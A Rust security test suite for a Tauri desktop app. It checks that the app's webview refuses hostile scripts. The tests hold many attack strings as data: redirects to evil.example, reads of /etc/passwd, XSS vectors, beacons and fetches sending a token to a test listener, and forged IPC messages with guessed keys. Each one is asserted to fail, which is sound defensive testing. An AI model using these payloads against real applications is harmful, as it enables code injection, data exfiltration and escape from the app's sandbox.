//! What a hostile script could do if one ever ran in the window: nothing that leaves it.

use serde_json::json;

use crate::app::App;

/// Runs a script and tells how it ended: `done` with what it made, or `refused` with the words of the refusal.
async fn tried(app: &App, script: &str) -> String {
    let script = format!(
        "const done = arguments[0]; (async () => {{ {script} }})().then(\
         made => done('done ' + JSON.stringify(made ?? null)), refusal => done('refused ' + (refusal?.message ?? refusal)))"
    );
    let ended = app.run_async(&script, json!([])).await;
    let ended = ended.unwrap_or_else(|error| panic!("the script does not end: {error}: {script}"));
    ended.as_str().expect("words").to_owned()
}

#[tokio::test]
async fn the_window_shows_its_own_pages_and_opens_no_other() {
    let app = App::open().await;
    let home = app.address().await;

    let opened = tried(&app, "return String(window.open('https://evil.example/'))").await;
    assert_eq!(opened, "done \"null\"", "a new window");
    for way in [
        "location.href = 'https://evil.example/'",
        "location.href = 'file:///etc/passwd'",
        "const link = document.createElement('a'); link.href = 'https://evil.example/'; document.body.append(link); link.click()",
        "const link = document.createElement('a'); link.href = 'https://evil.example/'; link.target = '_blank'; document.body.append(link); link.click()",
        "const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit()",
        "location.replace('https://evil.example/')",
        "location.assign('http://127.0.0.1:9/')",
        "location.href = 'data:text/html,<h1>not ours</h1>'",
        "location.href = 'javascript:document.body.textContent = 1'",
        "location.href = URL.createObjectURL(new Blob(['<h1>not ours</h1>'], { type: 'text/html' }))",
        "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=https://evil.example/'; document.head.append(meta)",
        "try { history.pushState(null, '', 'https://evil.example/') } catch (refusal) {}",
        "const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = 'planted.sh'; document.body.append(link); link.click()",
    ] {
        // The page still answers a moment later, and is where it was.
        tried(
            &app,
            &format!("{way}; await new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"),
        )
        .await;
        assert_eq!(app.address().await, home, "{way}");
    }
    let base = "const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);\
        const link = document.createElement('a'); link.href = 'x'; return link.href";
    assert!(!tried(&app, base).await.contains("evil"), "addresses in the page still mean the page");
    assert_eq!(app.windows().await, 1);
    app.close().await;
}

#[tokio::test]
async fn nothing_that_a_page_makes_up_is_run() {
    let app = App::open().await;
    for way in [
        "return eval('1 + 1')",
        "return new Function('return 2')()",
        "return (await import('data:text/javascript,export default 1')).default",
        "return (await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))).default",
        "return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = () => no('error') })",
        "return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
        "return await navigator.serviceWorker.register('data:text/javascript,1')",
    ] {
        let ended = tried(&app, way).await;
        assert!(ended.starts_with("refused"), "{way}: {ended}");
    }
    for way in [
        "const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.body.append(script)",
        "const script = document.createElement('script'); script.src = 'data:text/javascript,window.ran = true'; document.body.append(script)",
        "const image = document.createElement('img'); image.setAttribute('onerror', 'window.ran = true'); image.src = 'nothing.png'; document.body.append(image)",
        "const link = document.createElement('a'); link.href = 'javascript:window.ran = true'; document.body.append(link); link.click()",
        "const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.ran = true</script>'; document.body.append(frame)",
        "const frame = document.createElement('iframe'); frame.src = 'data:text/html,<script>parent.ran = true</script>'; document.body.append(frame)",
        "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = true\"></svg><details open ontoggle=\"window.ran = true\"></details>')",
        "setTimeout('window.ran = true', 0)",
    ] {
        tried(&app, &format!("{way}; await new Promise(done => setTimeout(done, 100))")).await;
        assert_eq!(app.run("return window.ran ?? null", json!([])).await, json!(null), "{way}");
    }
    app.close().await;
}

#[tokio::test]
async fn nothing_is_sent_to_another_place() {
    let app = App::open().await;
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    for way in [
        format!("return (await fetch('http://127.0.0.1:{port}/')).status"),
        format!(
            "return await new Promise((yes, no) => {{ const r = new XMLHttpRequest(); r.open('GET', 'http://127.0.0.1:{port}/'); r.onload = yes; r.onerror = () => no('error'); r.send() }})"
        ),
        format!(
            "return await new Promise((yes, no) => {{ const s = new WebSocket('ws://127.0.0.1:{port}/'); s.onopen = yes; s.onerror = () => no('error') }})"
        ),
        format!(
            "return await new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = () => no('error'); i.src = 'http://127.0.0.1:{port}/p.png' }})"
        ),
        format!(
            "return await new Promise((yes, no) => {{ const s = document.createElement('script'); s.onload = yes; s.onerror = () => no('error'); s.src = 'http://127.0.0.1:{port}/s.js'; document.body.append(s) }})"
        ),
        format!(
            "return await new Promise((yes, no) => {{ const s = new EventSource('http://127.0.0.1:{port}/'); s.onopen = yes; s.onerror = () => no('error') }})"
        ),
        format!(
            "return await new Promise((yes, no) => {{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = yes; l.onerror = () => no('error'); l.href = 'http://127.0.0.1:{port}/s.css'; document.head.append(l) }})"
        ),
        "return (await fetch('file:///etc/passwd')).status".to_owned(),
        "return (await fetch('asset://localhost//etc/passwd')).status".to_owned(),
    ] {
        let ended = tried(&app, &way).await;
        assert!(ended.starts_with("refused"), "{way}: {ended}");
    }
    let mut came: Vec<String> = arrived(&listener).await.into_iter().collect();
    // These tell nobody how they ended; what counts is that nobody comes.
    for way in [
        format!("navigator.sendBeacon('http://127.0.0.1:{port}/', 'token')"),
        format!(
            "const s = new CSSStyleSheet(); s.replaceSync('body {{ background: url(http://127.0.0.1:{port}/b.png) }}'); document.adoptedStyleSheets = [s]"
        ),
        format!(
            "for (const rel of ['prefetch', 'preconnect', 'preload', 'icon', 'modulepreload', 'manifest']) {{ const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://127.0.0.1:{port}/' + rel; document.head.append(l) }}"
        ),
        format!(
            "for (const name of ['iframe', 'embed', 'video', 'audio', 'track', 'object']) {{ const e = document.createElement(name); e.src = e.data = 'http://127.0.0.1:{port}/' + name; document.body.append(e) }}"
        ),
        format!(
            "if (window.RTCPeerConnection) {{ const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'a', credential: 'b' }}] }}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()) }}"
        ),
        format!(
            "document.body.insertAdjacentHTML('beforeend', '<form action=\"http://127.0.0.1:{port}/\" method=post target=_self><input name=a></form>'); document.body.lastElementChild.submit()"
        ),
    ] {
        tried(&app, &format!("{way}; await new Promise(done => setTimeout(done, 200))")).await;
        came.extend(arrived(&listener).await.map(|what| format!("{way}: {what}")));
    }
    came.extend(arrived(&listener).await);
    assert_eq!(came, [""; 0], "something was sent out of the window");
    app.close().await;
}

/// What somebody sent to the listener, if anybody came.
async fn arrived(listener: &tokio::net::TcpListener) -> Option<String> {
    use tokio::io::AsyncReadExt as _;
    let moment = std::time::Duration::from_millis(50);
    let (mut stream, _) = tokio::time::timeout(moment, listener.accept()).await.ok()?.ok()?;
    let mut bytes = vec![0; 2048];
    let read = tokio::time::timeout(moment * 20, stream.read(&mut bytes)).await;
    Some(match read {
        Ok(Ok(count)) => String::from_utf8_lossy(&bytes[..count]).into_owned(),
        _ => "a connection that stays silent".to_owned(),
    })
}

#[tokio::test]
async fn the_page_can_ask_for_its_own_commands_only() {
    let app = App::open().await;
    assert_eq!(app.run("return typeof window.__TAURI__", json!([])).await, "undefined");
    let own = tried(&app, "return (await window.__TAURI_INTERNALS__.invoke('catalogue')).length > 0").await;
    assert_eq!(own, "done true");
    for (command, arguments) in [
        ("plugin:window|close", json!({ "label": "main" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x", "url": "https://evil.example/" } }),
        ),
        ("plugin:event|emit", json!({ "event": "x", "payload": null })),
        ("plugin:clipboard-manager|read_text", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 21 })),
        ("plugin:shell|open", json!({ "path": "https://evil.example/" })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        ("hidden", json!({})),
    ] {
        let ended =
            tried(&app, &format!("return await window.__TAURI_INTERNALS__.invoke({command:?}, {arguments})")).await;
        assert!(
            ended.starts_with("refused") && (ended.contains("not allowed") || ended.contains("not found")),
            "{command}: {ended}"
        );
    }
    let link =
        tried(&app, "return await window.__TAURI_INTERNALS__.invoke('open_link', { link: 'https://evil.example/' })")
            .await;
    assert!(link.starts_with("refused"), "an address is no link: {link}");
    app.close().await;
}

/// The commands hang on a key that Tauri puts into the app's own page. A message written by hand, or a frame, has none.
#[tokio::test]
async fn a_message_by_another_way_is_not_heard() {
    let app = App::open().await;
    for way in [
        "return (await fetch('ipc://localhost/history_clear', { method: 'POST', body: '{}' })).ok || Promise.reject('refused')",
        "return (await fetch('ipc://localhost/history_clear', { method: 'POST', body: '{}', headers: { 'Tauri-Invoke-Key': 'guessed', 'Tauri-Callback': '1', 'Tauri-Error': '2' } })).ok || Promise.reject('refused')",
        "const frame = document.createElement('iframe'); document.body.append(frame); return await frame.contentWindow.__TAURI_INTERNALS__.invoke('catalogue')",
    ] {
        let ended = tried(&app, way).await;
        assert!(ended.starts_with("refused"), "{way}: {ended}");
    }
    let posted = "const id = 4711; window['_' + id] = () => { window.heard = true }; \
        window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({ cmd: 'catalogue', callback: id, error: id, payload: {}, options: {}, __TAURI_INVOKE_KEY__: 'guessed' })); \
        await new Promise(done => setTimeout(done, 300)); return window.heard ?? null";
    assert_eq!(tried(&app, posted).await, "done null");
    app.close().await;
}

#[tokio::test]
async fn the_ground_under_the_page_is_frozen() {
    let app = App::open().await;
    let changed = tried(&app, "Object.prototype.planted = true; return ({}).planted === true").await;
    assert_ne!(changed, "done true");
    app.close().await;
}
